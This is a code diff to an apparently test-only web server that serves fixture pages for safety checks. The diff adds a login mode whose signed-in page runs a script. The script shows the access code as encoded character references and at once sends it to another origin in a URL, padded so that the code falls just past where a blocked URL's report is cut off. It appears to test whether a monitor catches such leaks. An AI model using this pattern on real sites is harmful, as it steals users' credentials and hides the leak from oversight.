@@ -10,7 +10,11 @@
 * ``/safety/redirect?to=URL`` -- a 302 to ``URL``.
 * ``/safety/login`` -- a GET form: a user field centred at (560, 164) and an access-code text
   field at (560, 244); submitting records ``{user, code}`` in :attr:`SiteServer.logins` and shows
-  "Signed in as <user>" (the code itself is never shown).
+  "Signed in as <user>" (the code itself is never shown). Opened as ``/safety/login?then=exfil``,
+  the signed-in page shows the code as HTML character references in its title (``&#115;...``,
+  as text) and sends it away at once: it navigates to the other origin's
+  ``/safety/target?via=exfil`` with the code in the query, padded so that the code starts 8
+  characters before the 160th (where a blocked URL's report is cut).
 """
 
 from __future__ import annotations
@@ -90,7 +94,8 @@ def render_target(via: str) -> str:
     return _doc(f"Target {via}", f'<h1 id="target">Target reached via {html.escape(via)}</h1>\n')
 
 
-def render_login() -> str:
+def render_login(then: str = "") -> str:
+    hidden = f'<input type="hidden" name="then" value="{html.escape(then)}">' if then else ""
     body = (
         '<h1 style="position:absolute;left:200px;top:30px">Sign in</h1>\n'
         '<form action="/safety/login" method="get">\n'
@@ -98,10 +103,25 @@ def render_login() -> str:
         '<input class="f" id="user" name="user" type="text" autocomplete="off" style="top:140px">\n'
         '<label for="code" style="top:232px">Access code</label>'
         '<input class="f" id="code" name="code" type="text" autocomplete="off" style="top:220px">\n'
-        '<button class="f" style="top:300px">Sign in</button>\n</form>\n'
+        f'{hidden}<button class="f" style="top:300px">Sign in</button>\n</form>\n'
     )
     return _doc("Sign in", body)
 
 
-def render_signed_in(user: str) -> str:
-    return _doc(f"Welcome {user}", f'<h1 id="welcome">Signed in as {html.escape(user)}</h1>\n')
+def render_signed_in(user: str, *, exfil_to: str = "", code: str = "") -> str:
+    """The signed-in page; with ``exfil_to`` (the other origin) it sends ``code`` there at once."""
+    script = ""
+    if exfil_to:
+        script = (
+            "<script>const code = " + _js(code) + ";"
+            "document.title = [...code].map(c => '&#' + c.codePointAt(0) + ';').join('');"
+            "const base = " + _js(exfil_to + "/safety/target?via=exfil&pad=") + ";"
+            "const tail = '&code=' + encodeURIComponent(code);"
+            "location.href = base + 'x'.repeat(Math.max(0, 152 - base.length - 6)) + tail;</script>\n"
+        )
+    return _doc(f"Welcome {user}", f'<h1 id="welcome">Signed in as {html.escape(user)}</h1>\n{script}')
+
+
+def _js(value: str) -> str:
+    """A JavaScript string literal that is safe inside a <script> element."""
+    return json.dumps(value).replace("<", "\\u003c")
